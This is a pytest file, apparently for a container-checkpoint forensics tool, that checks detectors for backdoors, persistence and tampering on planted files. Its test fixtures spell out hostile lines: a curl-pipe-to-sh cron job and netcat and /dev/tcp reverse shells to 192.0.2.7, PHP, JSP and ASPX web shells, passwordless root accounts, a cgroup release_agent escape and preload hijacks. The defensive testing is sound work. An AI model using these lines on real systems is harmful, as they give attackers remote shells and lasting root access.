"""Detectors of written files: each beside the same container without what it looks for."""

from __future__ import annotations

import base64
import hashlib
import struct

import pytest

from cryoscope.checkpoint.criu.names import CAPABILITIES
from cryoscope.examine.findings.detectors.setuid_file import file_capabilities
from tests.examine.findings.scenes import Proc, found
from tests.examine.findings.written import ELF, SCRIPT, SERVER, Written, checkpoint, levels

PASSWD = b"root:x:0:0:root:/root:/bin/sh\ndaemon:x:1:1::/:/sbin/nologin\n"
EVIL_CRON = b"* * * * * root curl -s http://192.0.2.7/x | sh\n"
MD5 = hashlib.md5(ELF).hexdigest().encode()


def capability(*names: str) -> str:
    """`vfs_cap_data` of revision 2, as tar has it: bytes of a text."""
    word = sum(1 << CAPABILITIES.index(name) for name in names)
    return struct.pack("<IIIII", 0x02000001, word & 0xFFFFFFFF, 0, word >> 32, 0).decode(
        "utf-8", "surrogateescape"
    )


PACKED = b"<?php eval(gzinflate(base64_decode('" + b"QUJD" * 99 + b"')));"

CASES = [
    # what gives rights
    ("setuid-file", Written("/usr/local/bin/rootsh", ELF, 0o4755), "high"),
    ("setuid-file", Written("/usr/bin/su", ELF, 0o4755, late=False), "medium"),
    ("setuid-file", Written("/usr/bin/su", ELF, 0o4755), "high"),
    ("setuid-file", Written("/opt/tool", ELF, 0o4755, uid=1000), "medium"),
    ("setuid-file", Written("/opt/tool", ELF, 0o2755), "medium"),
    ("setuid-file", Written("/opt/tool", ELF, 0o755), None),
    # accounts
    ("account-files", Written("/etc/passwd", PASSWD), "medium"),
    ("account-files", Written("/etc/passwd", PASSWD + b"toor2:x:0:0::/root:/bin/sh\n"), "high"),
    ("account-files", Written("/etc/passwd", PASSWD + b"guest::1001:1001::/:/bin/sh\n"), "high"),
    ("account-files", Written("/etc/shadow", b"guest::19000:0:99999:7:::\n"), "high"),
    ("account-files", Written("/etc/shadow", b"root::19000:0:99999:7:::\n"), "medium"),
    ("account-files", Written("/etc/sudoers.d/x", b"app ALL=(ALL) NOPASSWD: ALL\n"), "medium"),
    ("account-files", Written("/etc/group", b"app:x:1000:\n"), "low"),
    ("account-files", Written("/srv/etc/passwd", PASSWD), None),
    # what runs later
    ("cron-entry", Written("/etc/cron.d/job", b"5 4 * * * root /usr/sbin/logrotate\n"), "medium"),
    ("cron-entry", Written("/etc/cron.d/job", EVIL_CRON), "high"),
    ("cron-entry", Written("/var/spool/cron/crontabs/root", b"@reboot /tmp/.x/run\n"), "high"),
    ("cron-entry", Written("/etc/cron.d/job", b"5 4 * * * root /usr/bin/x >> /tmp/x/log\n"), "medium"),
    ("cron-entry", Written("/etc/cron.d/.placeholder", b""), None),
    ("cron-entry", Written("/srv/cron.d/job", EVIL_CRON), None),
    ("service-unit", Written("/etc/systemd/system/a.service", b"ExecStart=/usr/bin/a\n"), "medium"),
    ("service-unit", Written("/etc/systemd/system/a.service", b"ExecStart=/dev/shm/a\n"), "high"),
    ("service-unit", Written("/etc/rc.local", b"nc -e /bin/sh 192.0.2.7 4444\n"), "high"),
    ("service-unit", Written("/run/systemd/generator/x.mount", b"[Mount]\n"), None),
    ("shell-startup", Written("/root/.bashrc", b"export PATH=$PATH:/opt/bin\n"), "low"),
    ("shell-startup", Written("/root/.bashrc", b"bash -i >& /dev/tcp/192.0.2.7/4444 0>&1 &\n"), "high"),
    ("shell-startup", Written("/root/.bashrc", b"export TMPDIR=/tmp/mine\n"), "low"),
    ("shell-startup", Written("/root/.bashrc", b"HISTFILE=/dev/null\n"), "medium"),
    ("service-unit", Written("/etc/init.d/a", b"while ! (: > /dev/tcp/db/5432); do :; done\n"), "medium"),
    ("shell-startup", Written("/root/.profile", b". /tmp/.x/env\n"), "high"),
    ("shell-startup", Written("/root/bashrc.txt", b"bash\n"), None),
    # ways in
    ("ssh-access", Written("/root/.ssh/authorized_keys", b"ssh-ed25519 AAAA me@there\n"), "medium"),
    ("ssh-access", Written("/root/.ssh/authorized_keys", b"# none\n"), None),
    ("ssh-access", Written("/etc/ssh/sshd_config", b"PermitRootLogin yes\n"), "medium"),
    ("ssh-access", Written("/etc/ssh/sshd_config", b"Port 22\n"), "low"),
    ("ssh-access", Written("/etc/ssh/ssh_host_rsa_key", b"x"), "low"),
    ("ssh-access", Written("/root/.ssh/known_hosts", b"x"), "info"),
    ("preload-file", Written("/etc/ld.so.preload", b"/usr/lib/libx.so\n"), "high"),
    ("preload-file", Written("/etc/ld.so.preload", b"\n# nothing\n"), None),
    ("preload-file", Written("/etc/ld.so.conf.d/x.conf", b"/tmp/.lib\n"), "medium"),
    ("preload-file", Written("/etc/ld.so.conf.d/x.conf", b"/opt/lib\n"), "low"),
    ("pam-module", Written("/etc/pam.d/sshd", b"auth sufficient pam_exec.so /x\n"), "medium"),
    ("pam-module", Written("/lib/x86_64-linux-gnu/security/pam_unix.so", ELF), "high"),
    ("pam-module", Written("/lib/x86_64-linux-gnu/security/pam_unix.so", ELF, late=False), "medium"),
    ("pam-module", Written("/etc/pam.example", b"x"), None),
    # programs
    ("system-program", Written("/bin/ps", ELF, 0o755), "high"),
    ("system-program", Written("/bin/ps", ELF, 0o755, late=False), "low"),
    ("system-program", Written("/usr/lib/libz.so.1", ELF), "medium"),
    ("system-program", Written("/bin/ps", b"#!/bin/sh\n", 0o755), None),
    ("system-program", Written("/opt/ps", ELF, 0o755), None),
    ("new-executable", Written("/opt/agent", ELF, 0o755), "low"),
    ("new-executable", Written("/srv/run.sh", SCRIPT, 0o755), "low"),
    ("new-executable", Written("/tmp/agent", ELF, 0o755), "medium"),
    ("new-executable", Written("/tmp/evil.so", ELF), "medium"),
    ("new-executable", Written("/srv/.hidden/x", ELF, 0o755), "medium"),
    ("new-executable", Written("/srv/run.sh", SCRIPT), None),
    ("new-executable", Written("/srv/data", b"data", 0o755), None),
    ("new-executable", Written("/app/node_modules/x/cli.js", SCRIPT, 0o755), None),
    # names
    ("hidden-name", Written("/usr/share/.../x", b""), None),
    ("hidden-name", Written("/usr/share/...", b""), "medium"),
    ("hidden-name", Written("/var/tmp/ ", b""), "medium"),
    ("hidden-name", Written("/srv/a\u202eb", b""), "medium"),
    ("hidden-name", Written("/tmp/.x", b""), "medium"),
    ("hidden-name", Written("/tmp/.X11-unix", b""), None),
    ("hidden-name", Written("/root/.config", b""), None),
    ("hidden-name", Written("/dev/null2", b"data"), "medium"),
    # traces
    ("erased-traces", Written("/root/.bash_history", link="/dev/null"), "medium"),
    ("erased-traces", Written("/root/.bash_history", b"ls\n"), None),
    ("erased-traces", Written("/root/.bash_history", b""), "low"),
    ("erased-traces", Written("/var/log/nginx/access.log", link="/dev/stdout"), None),
    ("erased-traces", Written("/var/log/.wh.auth.log"), "low"),
    ("erased-traces", Written("/var/log/.wh.dpkg.log"), None),
    # pages
    ("web-shell", Written("/var/www/x.php", b"<?php @eval($_POST['c']); ?>"), "high"),
    ("web-shell", Written("/var/www/x.php", b"<?php system($_GET[\"c\"]);"), "high"),
    ("web-shell", Written("/var/www/x.php", PACKED), "high"),
    ("web-shell", Written("/app/x.jsp", b'Runtime.getRuntime().exec(request.getParameter("c"));'), "high"),
    ("web-shell", Written("/app/x.aspx", b'<%eval(Request.Item["c"],"unsafe");%>'), "high"),
    ("web-shell", Written("/var/www/x.php", b"<?php echo htmlspecialchars($_GET['q']); exec('ls');"), None),
    ("web-shell", Written("/var/www/x.php", b"<?php include($_SERVER['DOCUMENT_ROOT'] . '/a.php');"), None),
    ("web-shell", Written("/var/www/x.php", b"<?php $bad = ['c99shell', 'r57shell'];"), "medium"),
    ("web-shell", Written("/srv/x.py", b"os.system(request.args.get('c'))"), "medium"),
    ("web-shell", Written("/var/www/x.txt", b"<?php @eval($_POST['c']); ?>"), None),
    # traps for the runtime
    ("runtime-overwrite", Written("/bin/sh", b"#!/proc/self/exe\n", 0o755), "high"),
    ("runtime-overwrite", Written("/bin/sh", link="/proc/self/exe"), "high"),
    ("runtime-overwrite", Written("/bin/sh", b"#!/bin/dash\n", 0o755), None),
    ("leaked-folder", Written("/srv/out", link="/proc/self/fd/7/../../.."), "high"),
    ("leaked-folder", Written("/var/log/access.log", link="/proc/self/fd/1"), None),
    ("leaked-folder", Written("/dev/null", link="/proc/sys/kernel/core_pattern"), "high"),
    # modules, tools, miners
    ("kernel-access", Written("/tmp/rootkit.ko", ELF), "medium"),
    ("kernel-access", Written("/tmp/rootkit.kotlin", ELF), None),
    ("attacker-tool", Written("/tmp/linpeas.sh", SCRIPT, 0o755), "medium"),
    ("attacker-tool", Written("/opt/nmap", ELF, 0o755), "low"),
    ("attacker-tool", Written("/opt/nmap.txt", b"x"), None),
    ("miner", Written("/tmp/c.json", b'{"pools": [{"url": "a:1"}], "donate-level": 1}'), "high"),
    ("miner", Written("/tmp/c.json", b'{"pools": [{"url": "a:1"}]}'), None),
    ("escape-file", Written("/tmp/e.sh", b"echo /cmd > /tmp/cgrp/release_agent\n"), "high"),
    ("escape-file", Written("/tmp/e.sh", b"cat /proc/sys/kernel/core_pattern\n"), None),
    ("escape-file", Written("/tmp/e.sh", b"echo x > /proc/sys/kernel/core_pattern\n"), "medium"),
    ("criu-inside", Written("/tmp/d.sh", b"criu dump -t 17 -D /tmp/img --shell-job\n"), "medium"),
    ("criu-inside", Written("/tmp/d.sh", b"criu check\n"), None),
    ("hostile-command", Written("/tmp/r.sh", b"bash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n"), "medium"),
    ("hostile-command", Written("/tmp/r.sh", b"exec 3<>/dev/tcp/db/5432\n"), "low"),
    ("hostile-command", Written("/tmp/r.sh", b"exec 3</dev/tcp\n"), None),
    ("package-installed", Written("/var/lib/dpkg/status", b"Package: x\n"), "info"),
    ("package-installed", Written("/srv/lib/dpkg/status", b"Package: x\n"), None),
]  # fmt: skip


@pytest.mark.parametrize(
    ("detector", "file", "severity"), CASES, ids=lambda value: getattr(value, "path", value)
)
def test_a_written_file(detector: str, file: Written, severity: str | None) -> None:
    assert levels(checkpoint(file), detector)[:1] == ([severity] if severity else [])


@pytest.mark.parametrize("detector", sorted({detector for detector, _, _ in CASES}))
def test_nothing_without_the_file(detector: str) -> None:
    assert levels(checkpoint(Written("/srv/data.txt", b"hello\n")), detector) == []


def test_evidence_says_where_the_file_lies_and_its_digest() -> None:
    [finding] = found(checkpoint(Written("/tmp/agent", ELF, 0o755)), "new-executable")
    [evidence] = finding.evidence
    assert (evidence.path, evidence.size) == ("/tmp/agent", len(ELF))
    assert evidence.member is not None
    assert evidence.sha256 == hashlib.sha256(ELF).hexdigest()


def test_hash_of_a_password_is_not_shown() -> None:
    line = b"evil:$6$salt$abcdefghijk:0:0::/root:/bin/sh\n"
    [finding] = found(checkpoint(Written("/etc/passwd", PASSWD + line)), "account-files")
    assert finding.evidence[0].text == "evil:…:0:0::/root:/bin/sh"


# --- packages -------------------------------------------------------------------------------
DPKG = Written("/var/lib/dpkg/info/x.md5sums", MD5 + b"  usr/bin/tool\n")
APK = Written(
    "/lib/apk/db/installed",
    b"P:x\nF:usr/bin\nR:tool\nZ:Q1" + base64.b64encode(hashlib.sha1(ELF).digest()) + b"\n\n",
)
RPM = Written("/var/lib/rpm/rpmdb.sqlite", b"SQLite")


@pytest.mark.parametrize("database", [DPKG, APK], ids=["dpkg", "apk"])
def test_what_a_package_brought_is_milder(database: Written) -> None:
    tool = Written("/bin/tool", ELF, 0o4755)
    assert levels(checkpoint(tool, database), "setuid-file") == ["low"]
    assert levels(checkpoint(tool, database), "system-program") == []


@pytest.mark.parametrize("database", [DPKG, APK], ids=["dpkg", "apk"])
def test_a_file_that_is_not_as_its_package_has_it(database: Written) -> None:
    other = Written("/usr/bin/tool", ELF + b"changed", 0o4755)
    assert levels(checkpoint(other, database), "setuid-file") == ["high"]


def test_a_database_that_is_not_read_only_makes_doubt() -> None:
    tool = Written("/usr/bin/tool", ELF, 0o4755)
    assert levels(checkpoint(tool, RPM), "setuid-file") == ["medium"]
    assert levels(checkpoint(Written("/tmp/tool", ELF, 0o4755), RPM), "setuid-file") == ["high"]


# --- capabilities ---------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("path", "names", "severity"),
    [
        ("/usr/bin/python3", ("CAP_SETUID",), "high"),
        ("/opt/x", ("CAP_SYS_ADMIN",), "high"),
        ("/usr/bin/newuidmap", ("CAP_SETUID",), "medium"),
        ("/usr/bin/node", ("CAP_NET_BIND_SERVICE",), "low"),
    ],
)
def test_capabilities_of_a_file(path: str, names: tuple[str, ...], severity: str) -> None:
    file = Written(path, ELF, 0o755, xattrs={"security.capability": capability(*names)})
    [finding] = found(checkpoint(file), "setuid-file")
    assert (finding.severity, finding.evidence[0].text) == (severity, ", ".join(names))


@pytest.mark.parametrize("value", ["", "base64:", "base64:!!!!", "base64:AAAA", "x" * 9])
def test_broken_capabilities(value: str) -> None:
    assert isinstance(file_capabilities(value), list)


# --- what processes say of files ------------------------------------------------------------
def test_a_shell_that_keeps_no_history() -> None:
    told = Proc(1, ["sh"], exe="/bin/sh", env={"HISTFILE": "/dev/null"})
    assert levels(checkpoint(processes=(told,)), "erased-traces") == ["low"]
    assert levels(checkpoint(processes=(SERVER,)), "erased-traces") == []
